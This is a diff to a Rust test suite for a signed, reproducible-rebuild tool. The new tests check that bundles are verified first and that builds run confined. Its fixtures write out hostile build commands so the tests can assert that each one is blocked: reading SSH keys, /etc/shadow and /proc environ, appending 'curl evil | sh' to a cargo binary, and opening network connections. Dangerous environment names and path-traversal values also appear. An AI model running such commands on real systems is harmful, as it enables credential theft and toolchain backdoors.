@@ -3,6 +3,9 @@
 //! deeper directory with no network and an empty cargo home; a changed byte
 //! caught at the source check, or explained at the artifact comparison;
 //! signed rebuild reports counted by the builder role; and bad input.
+//! Issue 14: a bundle is verified under `--trust` before anything it controls
+//! runs, and the build is confined (the `issue_14_*` tests, one per line of
+//! the README's "What a build can and cannot touch").
 
 use std::path::Path;
 use vouch_signing::verify::VerifyReport;
@@ -23,9 +26,10 @@ fn rebuilds_bit_for_bit_offline_with_an_empty_cargo_home() {
     assert_eq!(m["build"]["vendored"]["path"], "deps/vendor.tar");
     let copy = deeper_copy(&r);
     let empty_home = r.dir.mkdir("empty-cargo-home");
+    let policy = r.policy("trust.toml", &["release"]);
     let run = TestCommand::new(
         "unshare",
-        ["-n", "--", vouch_bin().to_str().unwrap(), "rebuild", b.to_str().unwrap(), "--source", copy.to_str().unwrap()],
+        ["-n", "--", vouch_bin().to_str().unwrap(), "rebuild", b.to_str().unwrap(), "--source", copy.to_str().unwrap(), "--trust", policy.to_str().unwrap()],
     )
     .env("CARGO_HOME", &empty_home)
     .env_remove("SOURCE_DATE_EPOCH")
@@ -44,7 +48,9 @@ fn a_changed_byte_is_refused_at_the_source_check_or_explained() {
     let text = std::fs::read_to_string(&main).unwrap().replace("hello from", "hullo from");
     std::fs::write(&main, text).unwrap();
     let work = r.dir.mkdir("work");
-    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", copy.to_str().unwrap(), "--workdir", work.to_str().unwrap()])
+    let policy = r.policy("trust.toml", &["release"]);
+    let trust = policy.to_str().unwrap();
+    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", copy.to_str().unwrap(), "--trust", trust, "--workdir", work.to_str().unwrap()])
         .run()
         .code(1)
         .says("modified  src/main.rs")
@@ -57,6 +63,8 @@ fn a_changed_byte_is_refused_at_the_source_check_or_explained() {
         b.to_str().unwrap(),
         "--source",
         copy.to_str().unwrap(),
+        "--trust",
+        trust,
         "--workdir",
         work.to_str().unwrap(),
         "--unchecked-source-for-tests",
@@ -95,11 +103,16 @@ fn signed_rebuild_reports_count_for_the_builder_role() {
     );
     TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap()]).run().code(1).says("role builder: 0 of 1");
     let copy = deeper_copy(&r);
+    // The rebuilder verifies the release under its own policy (the release
+    // key), before the builder role can be met.
+    let release_policy = r.policy("release-trust.toml", &["release"]);
     TestCommand::vouch([
         "rebuild",
         b.to_str().unwrap(),
         "--source",
         copy.to_str().unwrap(),
+        "--trust",
+        release_policy.to_str().unwrap(),
         "--sign-report",
         "--key",
         keys.join("builder.key").to_str().unwrap(),
@@ -153,15 +166,17 @@ fn a_hanging_build_is_killed_at_the_timeout_and_cleaned_up() {
     let src = script_project(&r, "sleep 600");
     let work = r.dir.mkdir("work");
     let b = r.bundles.join("script-1.0.0");
+    let policy = r.policy("trust.toml", &["release"]);
+    let trust = policy.to_str().unwrap();
     let started = std::time::Instant::now();
-    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--exclude", "out.bin", "--workdir", work.to_str().unwrap(), "--timeout", "2"])
+    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", trust, "--exclude", "out.bin", "--workdir", work.to_str().unwrap(), "--timeout", "2"])
         .run()
         .code(2)
         .says("timed out after 2 s");
     assert!(started.elapsed().as_secs() < 60, "the build was killed");
     assert_eq!(std::fs::read_dir(&work).unwrap().count(), 0, "work directory removed");
     TestCommand::vouch([
-        "rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--exclude", "out.bin", "--workdir", work.to_str().unwrap(), "--timeout", "2", "--keep",
+        "rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", trust, "--exclude", "out.bin", "--workdir", work.to_str().unwrap(), "--timeout", "2", "--keep",
     ])
     .run()
     .code(2);
@@ -174,7 +189,8 @@ fn a_build_writing_outside_its_work_directory_fails() {
     let outside = r.dir.mkdir("outside");
     let src = script_project(&r, &format!("echo leak > {}/leaked", outside.display()));
     let b = r.bundles.join("script-1.0.0");
-    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--exclude", "out.bin"])
+    let policy = r.policy("trust.toml", &["release"]);
+    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", policy.to_str().unwrap(), "--exclude", "out.bin"])
         .run()
         .code(2)
         .says("build failed");
@@ -186,9 +202,11 @@ fn bad_input_exits_2() {
     let r = Release::new();
     let src = script_project(&r, "true");
     let b = r.bundles.join("script-1.0.0");
+    let policy = r.policy("trust.toml", &["release"]);
+    let trust = policy.to_str().unwrap();
     // An unwritable work directory (a file in the way).
     let blocker = r.dir.write("blocker", "x");
-    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--exclude", "out.bin", "--workdir", blocker.to_str().unwrap()])
+    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", trust, "--exclude", "out.bin", "--workdir", blocker.to_str().unwrap()])
         .run()
         .code(2)
         .says("blocker");
@@ -199,10 +217,400 @@ fn bad_input_exits_2() {
     TestCommand::vouch(["manifest", "create", d.path().to_str().unwrap(), "--name", "p", "--version", "1", "-o", plain.join("manifest.json").to_str().unwrap()])
         .run()
         .ok();
-    TestCommand::vouch(["rebuild", plain.to_str().unwrap(), "--source", d.path().to_str().unwrap()]).run().code(2).says("no build section");
+    TestCommand::vouch(["rebuild", plain.to_str().unwrap(), "--source", d.path().to_str().unwrap(), "--trust", trust]).run().code(2).says("no build section");
     // Missing source.
-    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", "/nonexistent/src"]).run().code(2).says("/nonexistent/src");
+    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", "/nonexistent/src", "--trust", trust]).run().code(2).says("/nonexistent/src");
     // --sign-report on an archive, and without a key.
-    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--exclude", "out.bin", "--sign-report"]).run().code(2).says("--key");
+    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", trust, "--exclude", "out.bin", "--sign-report"]).run().code(2).says("--key");
+    // No policy at all: --trust is required.
+    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--exclude", "out.bin"]).run().code(2).says("--trust");
+    // A policy that cannot be read.
+    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", "/nonexistent/trust.toml", "--exclude", "out.bin"])
+        .run()
+        .code(2)
+        .says("/nonexistent/trust.toml");
     let _ = Path::new("");
+}
+
+// ---- issue 14: verify first, confine what the bundle controls ----
+
+/// The script project released and signed, with its bundle and a policy
+/// trusting the release key.
+fn script_bundle(r: &Release, body: &str) -> (std::path::PathBuf, std::path::PathBuf, std::path::PathBuf) {
+    let src = script_project(r, body);
+    (src, r.bundles.join("script-1.0.0"), r.policy("trust.toml", &["release"]))
+}
+
+/// `vouch rebuild` of the script bundle with a work directory of its own.
+fn rebuild_script(b: &Path, src: &Path, policy: &Path, work: &Path, extra: &[&str]) -> TestCommand {
+    let mut args: Vec<String> = ["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", policy.to_str().unwrap()]
+        .map(String::from)
+        .to_vec();
+    args.extend(["--exclude", "out.bin", "--workdir", work.to_str().unwrap()].map(String::from));
+    args.extend(extra.iter().map(|s| s.to_string()));
+    TestCommand::vouch(args)
+}
+
+fn is_empty(dir: &Path) -> bool {
+    std::fs::read_dir(dir).map(|mut d| d.next().is_none()).unwrap_or(true)
+}
+
+#[test]
+fn issue_14_a_bundle_that_does_not_verify_is_refused_before_anything_it_controls_runs() {
+    let r = Release::new();
+    let marker = r.dir.join("ran");
+    // A build that, if it ever ran unconfined, would leave a marker.
+    let (src, b, policy) = script_bundle(&r, &format!("touch {}", marker.display()));
+    let work = r.dir.mkdir("work");
+    let keys = r.dir.mkdir("builder-keys");
+    TestCommand::vouch(["key", "generate", "--out", keys.to_str().unwrap(), "--name", "builder", "--unencrypted"]).run().ok();
+    let builder_key = keys.join("builder.key");
+    let sign_report = ["--sign-report", "--key", builder_key.to_str().unwrap()];
+
+    // Signed by a key outside the policy.
+    let other = Release::new();
+    let foreign = other.policy("foreign.toml", &["release"]);
+    rebuild_script(&b, &src, &foreign, &work, &sign_report).run().code(1).says("not in the policy").says("refusing to rebuild");
+    assert!(is_empty(&work) && !marker.exists() && !b.join("reports").exists(), "nothing ran, nothing was written");
+
+    // Edited after signing: the command now does something else.
+    let manifest = b.join("manifest.json");
+    let original = std::fs::read_to_string(&manifest).unwrap();
+    edit_manifest(&b, |m| m["build"]["command"] = serde_json::json!(["sh", "-c", "touch ran-edited; printf 'built\\n' > out.bin"]));
+    rebuild_script(&b, &src, &policy, &work, &sign_report).run().code(1).says("does not verify").says("refusing to rebuild");
+    assert!(is_empty(&work) && !b.join("reports").exists(), "the edited command did not run");
+    std::fs::write(&manifest, &original).unwrap();
+
+    // Unsigned.
+    std::fs::rename(b.join("signatures"), r.dir.join("signatures-aside")).unwrap();
+    rebuild_script(&b, &src, &policy, &work, &sign_report).run().code(1).says("no signatures").says("refusing to rebuild");
+    assert!(is_empty(&work) && !marker.exists() && !b.join("reports").exists(), "the unsigned build did not run");
+    std::fs::rename(r.dir.join("signatures-aside"), b.join("signatures")).unwrap();
+
+    // Verified, it runs (confined: the marker outside the work directory stays unwritten).
+    rebuild_script(&b, &src, &policy, &work, &[]).run().code(2).says("verified script 1.0.0").says("build failed");
+    assert!(!marker.exists());
+}
+
+#[test]
+fn issue_14_sign_report_checks_first_that_the_report_can_be_written() {
+    let r = Release::new();
+    let (src, b, policy) = script_bundle(&r, "true");
+    let work = r.dir.mkdir("work");
+    let keys = r.dir.mkdir("builder-keys");
+    TestCommand::vouch(["key", "generate", "--out", keys.to_str().unwrap(), "--name", "builder", "--unencrypted"]).run().ok();
+    // reports/ is a file: no report can go there.
+    std::fs::write(b.join("reports"), "in the way").unwrap();
+    rebuild_script(&b, &src, &policy, &work, &["--sign-report", "--key", keys.join("builder.key").to_str().unwrap()])
+        .run()
+        .code(2)
+        .says("cannot write a report into")
+        .says("reports");
+    assert!(is_empty(&work), "nothing was built");
+}
+
+/// Edits the bundle's manifest.json as JSON (its signature then fails, but
+/// the parser refuses it first).
+fn edit_manifest(b: &Path, edit: impl FnOnce(&mut serde_json::Value)) {
+    let p = b.join("manifest.json");
+    let mut m: serde_json::Value = serde_json::from_slice(&std::fs::read(&p).unwrap()).unwrap();
+    edit(&mut m);
+    std::fs::write(&p, serde_json::to_vec(&m).unwrap()).unwrap();
+}
+
+#[test]
+fn issue_14_env_names_outside_the_allow_list_and_workdirs_outside_the_source_are_refused_when_parsed() {
+    let r = Release::new();
+    let (src, b, policy) = script_bundle(&r, "true");
+    let work = r.dir.mkdir("work");
+    let manifest = std::fs::read(b.join("manifest.json")).unwrap();
+    for name in ["LD_PRELOAD", "PATH", "AWS_SECRET_KEY", "CARGO_REGISTRY_TOKEN", "RUSTC_WRAPPER"] {
+        edit_manifest(&b, |m| {
+            m["build"]["env"][name] = serde_json::json!("/tmp/x");
+        });
+        rebuild_script(&b, &src, &policy, &work, &[]).run().code(1).says(&format!("build.env sets \"{name}\"")).says("not an allow-listed");
+        TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap()]).run().code(2).says(name);
+        std::fs::write(b.join("manifest.json"), &manifest).unwrap();
+    }
+    for dir in ["../..", "/", "a/../../b", "./x/.."] {
+        edit_manifest(&b, |m| m["build"]["workdir"] = serde_json::json!(dir));
+        rebuild_script(&b, &src, &policy, &work, &[]).run().code(1).says("leaves the source root");
+        std::fs::write(b.join("manifest.json"), &manifest).unwrap();
+    }
+    assert!(is_empty(&work), "nothing was built");
+}
+
+#[test]
+fn issue_14_the_build_starts_from_a_clean_environment() {
+    let r = Release::new();
+    // The build fails if anything of the reviewer's environment reaches it.
+    let (src, b, policy) = script_bundle(
+        &r,
+        "if env | grep -q -e REVIEWER_ -e LD_PRELOAD -e AWS_; then env >&2; exit 7; fi; test \"$HOME\" = \"${PWD%/source}/home\"",
+    );
+    let work = r.dir.mkdir("work");
+    rebuild_script(&b, &src, &policy, &work, &[])
+        .env("REVIEWER_SECRET_TOKEN", "hunter2")
+        .env("AWS_SECRET_KEY", "hunter2")
+        .env("LD_PRELOAD", "")
+        .run()
+        .ok()
+        .says("identical  out.bin")
+        .says("REPRODUCED");
+    assert!(is_empty(&work));
+}
+
+#[test]
+fn issue_14_a_build_cannot_read_outside_its_work_directory_the_toolchain_and_the_system() {
+    let r = Release::new();
+    // A secret of the reviewer outside the work directory, the reviewer's
+    // own signing key, and the home directory.
+    let secret = r.dir.write("reviewer-home/.ssh/id_ed25519", "THE-REVIEWERS-SECRET\n");
+    let home = std::env::var("HOME").unwrap();
+    for (what, body) in [
+        ("secret", format!("cat {}", secret.display())),
+        ("key", format!("cat {}", r.key.display())),
+        ("home", format!("ls -a {home}")),
+        ("shadow", "cat /etc/shadow".to_string()),
+        // vouch's own environment (the reviewer's), through /proc.
+        ("environ", "cat /proc/$PPID/environ".to_string()),
+    ] {
+        let (src, b, policy) = script_bundle(&r, &body);
+        let work = r.dir.mkdir(format!("work-{what}"));
+        let run = rebuild_script(&b, &src, &policy, &work, &[]).run();
+        run.code(2).says("build failed").says("Permission denied");
+        assert!(!run.stderr.contains("THE-REVIEWERS-SECRET") && !run.stderr.contains("untrusted comment"), "{what}: {}", run.stderr);
+        assert!(is_empty(&work));
+        std::fs::remove_dir_all(r.dir.join("script-src")).unwrap();
+        std::fs::remove_dir_all(r.dir.join("bundles")).unwrap();
+    }
+}
+
+#[test]
+fn issue_14_a_build_cannot_write_the_cargo_home_or_outside_its_work_directory() {
+    let r = Release::new();
+    // The reviewer's cargo home, whose bin/cargo runs unconfined next time.
+    let cargo_home = r.dir.mkdir("reviewer-cargo-home");
+    let cargo = r.dir.write("reviewer-cargo-home/bin/cargo", "#!/bin/sh\n");
+    let (src, b, policy) = script_bundle(&r, &format!("echo 'curl evil | sh' >> {}", cargo.display()));
+    let work = r.dir.mkdir("work");
+    rebuild_script(&b, &src, &policy, &work, &[]).env("CARGO_HOME", &cargo_home).run().code(2).says("build failed").says("Permission denied");
+    assert_eq!(std::fs::read_to_string(&cargo).unwrap(), "#!/bin/sh\n", "bin/cargo is unchanged");
+    assert!(is_empty(&work));
+}
+
+#[test]
+fn issue_14_a_build_cannot_reach_the_network() {
+    let r = Release::new();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    listener.set_nonblocking(true).unwrap();
+    let (src, b, policy) = script_bundle(
+        &r,
+        &format!("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); print('CONNECTED')\""),
+    );
+    let work = r.dir.mkdir("work");
+    let run = rebuild_script(&b, &src, &policy, &work, &[]).run();
+    run.code(2).says("build failed").says("Network is unreachable");
+    assert!(!run.stderr.contains("CONNECTED"));
+    assert!(matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock), "nothing connected");
+    assert!(is_empty(&work));
+    // Where no network namespace can be made, Landlock's network rules
+    // (Linux 6.7+) deny the connection instead.
+    let run = rebuild_script(&b, &src, &policy, &work, &["--landlock-network-for-tests"]).run();
+    run.code(2).says("build failed").says("Permission denied");
+    assert!(!run.stderr.contains("CONNECTED"));
+    assert!(matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock), "nothing connected");
+    assert!(is_empty(&work));
+}
+
+/// Processes whose command line is exactly `argv`.
+fn processes_running(argv: &[&str]) -> Vec<String> {
+    let want: Vec<u8> = argv.iter().flat_map(|a| a.bytes().chain([0])).collect();
+    std::fs::read_dir("/proc")
+        .unwrap()
+        .filter_map(|e| e.ok())
+        .filter(|e| e.file_name().to_str().is_some_and(|n| n.bytes().all(|b| b.is_ascii_digit())))
+        .filter(|e| std::fs::read(e.path().join("cmdline")).is_ok_and(|c| c == want))
+        .map(|e| e.file_name().into_string().unwrap())
+        .collect()
+}
+
+#[test]
+fn issue_14_an_interrupted_rebuild_kills_the_whole_build_and_removes_its_work_directory() {
+    for (signal, keep) in [("TERM", false), ("INT", true)] {
+        let r = Release::new();
+        // A build with a child of its own, each sleeping long past the test.
+        let nap = if keep { "6121" } else { "6122" };
+        let (src, b, policy) = script_bundle(&r, &format!("sleep {nap} & sleep {nap}"));
+        let work = r.dir.mkdir("work");
+        let mut args = vec!["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", policy.to_str().unwrap()];
+        args.extend(["--exclude", "out.bin", "--workdir", work.to_str().unwrap(), "--timeout", "300"]);
+        if keep {
+            args.push("--keep");
+        }
+        let child = std::process::Command::new(vouch_bin())
+            .args(&args)
+            .env_remove("SOURCE_DATE_EPOCH")
+            .stdin(std::process::Stdio::null())
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped())
+            .spawn()
+            .unwrap();
+        let started = std::time::Instant::now();
+        while processes_running(&["sleep", nap]).len() < 2 {
+            assert!(started.elapsed().as_secs() < 60, "the build did not start");
+            std::thread::sleep(std::time::Duration::from_millis(50));
+        }
+        TestCommand::new("kill", [format!("-{signal}"), child.id().to_string()]).run().ok();
+        let out = child.wait_with_output().unwrap();
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "SIG{signal}: {stderr}");
+        assert!(stderr.contains("interrupted"), "SIG{signal}: {stderr}");
+        assert!(started.elapsed().as_secs() < 60, "stopped promptly");
+        assert!(processes_running(&["sleep", nap]).is_empty(), "SIG{signal}: the build's whole process group was killed");
+        if keep {
+            assert!(work.join("script-1.0.0-rebuild/build.log").exists(), "--keep keeps the work directory");
+            assert!(stderr.contains("work directory is kept"), "{stderr}");
+        } else {
+            assert!(is_empty(&work), "SIG{signal}: work directory removed");
+            assert!(stderr.contains("work directory was removed"), "{stderr}");
+        }
+    }
+}
+
+/// Writes `report` as `reports/<name>.json` of the bundle, signed with the
+/// builder key `key` by `vouch sign` (minisign's default comment).
+fn plant_report(b: &Path, key: &Path, name: &str, report: &serde_json::Value) {
+    let dir = b.join("reports");
+    std::fs::create_dir_all(&dir).unwrap();
+    let p = dir.join(format!("{name}.json"));
+    std::fs::write(&p, serde_json::to_vec(report).unwrap()).unwrap();
+    TestCommand::vouch(["sign", p.to_str().unwrap(), "--key", key.to_str().unwrap()]).run().ok();
+}
+
+#[test]
+fn issue_14_a_builder_report_counts_only_when_every_artifact_is_identical() {
+    let r = Release::new();
+    let (_src, b, _) = script_bundle(&r, "true");
+    let keys = r.dir.mkdir("builder-keys");
+    TestCommand::vouch(["key", "generate", "--out", keys.to_str().unwrap(), "--name", "builder", "--unencrypted"]).run().ok();
+    let key = keys.join("builder.key");
+    let builder_pub = std::fs::read_to_string(keys.join("builder.pub")).unwrap().lines().nth(1).unwrap().to_string();
+    let release_pub = std::fs::read_to_string(&r.public).unwrap().lines().nth(1).unwrap().to_string();
+    let policy = r.dir.write(
+        "builders.toml",
+        format!(
+            "[keys.acme-release]\npublic = \"{release_pub}\"\nroles = [\"release\"]\n\n[keys.gov-rebuilder]\npublic = \"{builder_pub}\"\nroles = [\"builder\"]\n\n[roles.release]\nthreshold = 1\n\n[roles.builder]\nthreshold = 1\n"
+        ),
+    );
+    let bytes = std::fs::read(b.join("manifest.json")).unwrap();
+    let m: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
+    let digest = format!("sha256:{}", sha256_hex(&bytes));
+    let art = &m["artifacts"][0];
+    let other = format!("sha256:{}", "0".repeat(64));
+    let report = |artifacts: serde_json::Value| {
+        serde_json::json!({
+            "schema": "vouch.rebuild-report/v1", "project": m["project"], "manifest_digest": digest, "command": ["sh", "build.sh"],
+            "toolchain": {}, "toolchain_matches": true, "artifacts": artifacts, "reproduced": true,
+        })
+    };
+    let entry = |actual: &str, identical: bool| {
+        serde_json::json!({"path": art["path"], "expected": art["digest"], "expected_size": art["size"], "actual": actual, "actual_size": art["size"], "identical": identical})
+    };
+    let verify = || TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap()]).run();
+    for (why, artifacts) in [
+        ("does not name artifact out.bin", serde_json::json!([])),
+        ("is not identical", serde_json::json!([entry(&other, false)])),
+        ("is not identical", serde_json::json!([entry(&other, true)])),
+        ("is not identical", serde_json::json!([entry(art["digest"].as_str().unwrap(), false)])),
+        ("not an artifact of the manifest", serde_json::json!([entry(art["digest"].as_str().unwrap(), true), {"path": "extra.bin", "expected": other, "expected_size": 1, "identical": true, "actual": other}])),
+    ] {
+        plant_report(&b, &key, "builder", &report(artifacts));
+        verify().code(1).says("does not count").says(why).says("role builder: 0 of 1");
+    }
+    plant_report(&b, &key, "builder", &report(serde_json::json!([entry(art["digest"].as_str().unwrap(), true)])));
+    verify().ok().says("role builder: 1 of 1");
+}
+
+fn sha256_hex(bytes: &[u8]) -> String {
+    vouch_manifests::Digest::of(bytes).hex()
+}
+
+/// Every path below `dir`, relative, sorted.
+fn listing(dir: &Path) -> Vec<String> {
+    fn walk(root: &Path, d: &Path, out: &mut Vec<String>) {
+        for e in std::fs::read_dir(d).unwrap() {
+            let e = e.unwrap();
+            out.push(e.path().strip_prefix(root).unwrap().display().to_string());
+            if e.file_type().unwrap().is_dir() {
+                walk(root, &e.path(), out);
+            }
+        }
+    }
+    let mut out = Vec::new();
+    walk(dir, dir, &mut out);
+    out.sort();
+    out
+}
+
+#[test]
+fn issue_14_locked_crates_come_from_the_local_cache_into_a_private_cargo_home() {
+    let r = Release::new();
+    r.release("0.1.0", &["--include-artifacts"]).ok();
+    let b = r.bundle("0.1.0");
+    let policy = r.policy("trust.toml", &["release"]);
+    let copy = deeper_copy(&r);
+    // A cargo cache holding exactly the locked crate (itoa), as the
+    // reviewer's machine has it.
+    let real_home = std::env::var_os("CARGO_HOME")
+        .map(std::path::PathBuf::from)
+        .unwrap_or_else(|| Path::new(&std::env::var_os("HOME").unwrap()).join(".cargo"));
+    let m: serde_json::Value = serde_json::from_slice(&std::fs::read(b.join("manifest.json")).unwrap()).unwrap();
+    let deps = m["build"]["dependencies"].as_array().unwrap();
+    assert_eq!(deps.len(), 1, "{deps:?}");
+    let file = format!("{}-{}.crate", deps[0]["name"].as_str().unwrap(), deps[0]["version"].as_str().unwrap());
+    let index = std::fs::read_dir(real_home.join("registry/cache"))
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .find(|p| p.join(&file).is_file())
+        .expect("the release's cargo build cached the crate");
+    let cache = r.dir.mkdir("reviewer-cargo-home");
+    let cached = cache.join("registry/cache").join(index.file_name().unwrap()).join(&file);
+    std::fs::create_dir_all(cached.parent().unwrap()).unwrap();
+    std::fs::copy(index.join(&file), &cached).unwrap();
+    let before = listing(&cache);
+    let rebuild = |home: &Path| {
+        TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", copy.to_str().unwrap(), "--trust", policy.to_str().unwrap()])
+            .env("CARGO_HOME", home)
+            .run()
+    };
+    rebuild(&cache).ok().says("identical  target/release/hello").says("REPRODUCED");
+    assert_eq!(listing(&cache), before, "the reviewer's cargo home is read, never written");
+
+    // A crate missing from the cache is named, with the way out.
+    let empty = r.dir.mkdir("empty-cargo-home");
+    rebuild(&empty).code(2).says(&format!("dependency {} {} is not in the local cargo cache", deps[0]["name"].as_str().unwrap(), deps[0]["version"].as_str().unwrap())).says("--include-dependencies");
+    assert!(is_empty(&empty));
+    // A cached file that is not the locked crate is refused.
+    std::fs::write(&cached, b"not the crate").unwrap();
+    rebuild(&cache).code(2).says("is not the locked crate");
+}
+
+#[test]
+fn issue_14_the_default_work_directory_is_removed_or_kept_as_asked() {
+    let r = Release::new();
+    let (src, b, policy) = script_bundle(&r, "true");
+    let tmp = r.dir.mkdir("tmp");
+    let run = |extra: &[&str]| {
+        let mut args = vec!["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", policy.to_str().unwrap(), "--exclude", "out.bin"];
+        args.extend(extra);
+        TestCommand::vouch(args).env("TMPDIR", &tmp).run()
+    };
+    run(&[]).ok();
+    assert!(is_empty(&tmp), "nothing left behind");
+    let kept = run(&["--keep"]);
+    kept.ok();
+    let dir = kept.stderr.lines().find_map(|l| l.strip_prefix("work directory kept: ")).expect("the kept directory is named");
+    assert!(Path::new(dir).join("build.log").is_file(), "--keep keeps {dir}");
 }
